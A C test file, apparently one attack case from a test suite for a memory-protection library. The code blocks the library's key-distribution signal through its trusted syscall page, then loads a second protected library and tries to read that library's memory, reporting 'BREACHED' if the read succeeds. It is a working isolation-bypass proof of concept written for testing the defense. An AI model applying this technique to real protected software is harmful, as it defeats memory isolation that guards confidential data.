/* A thread that blocks libprotect's own signal (SIGRTMAX, which tells every
 * thread of a key given out) through the trusted page, where a mask call
 * needs no cookie; then the program loads a second protected library
 * (libhop, confidential: late_key.policy), and the thread reads its memory:
 * did it keep the new key open? */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <dlfcn.h>
#include <pthread.h>
#include <signal.h>
#include <string.h>
#include <sys/syscall.h>

static pthread_barrier_t blocked_mask, loaded;
static volatile uint64_t *counter;

static void *reader(void *arg)
{
    (void)arg;
    uint64_t mask = 1ull << (SIGRTMAX - 1);
    long r = ((trusted_page_call)libprotect_trusted_page())(SYS_rt_sigprocmask, SIG_BLOCK, (long)&mask, 0, 8, 0, 0);
    printf("SIGRTMAX blocked through the page: %ld\n", r);
    fflush(stdout);
    pthread_barrier_wait(&blocked_mask);
    pthread_barrier_wait(&loaded);
    uint64_t seen = *counter; /* libhop's memory, with this thread's rights */
    printf("BREACHED: a thread that missed libhop's key read its memory (%llu)\n", (unsigned long long)seen);
    fflush(stdout);
    _exit(0);
}

int main(void)
{
    vault_open();
    if (!libprotect_trusted_page())
        blocked("no trusted page to call");
    pthread_barrier_init(&blocked_mask, NULL, 2);
    pthread_barrier_init(&loaded, NULL, 2);
    pthread_t t;
    pthread_create(&t, NULL, reader, NULL);
    pthread_barrier_wait(&blocked_mask);
    /* (beside libvault.so: by its full path) */
    Dl_info vault;
    char path[4096];
    if (!dladdr((void *)vault_open, &vault) || !vault.dli_fname)
        blocked("libvault.so not found");
    snprintf(path, sizeof path, "%.*s/libhop.so", (int)(strrchr(vault.dli_fname, '/') - vault.dli_fname),
             vault.dli_fname);
    void *h = dlopen(path, RTLD_NOW);
    if (!h) {
        fprintf(stderr, "%s\n", dlerror());
        blocked("libhop.so not loaded");
    }
    counter = dlsym(h, "hop_counter");
    if (!counter)
        blocked("no hop_counter in libhop.so");
    pthread_barrier_wait(&loaded);
    pthread_join(t, NULL);
    blocked("the reader came back");
}
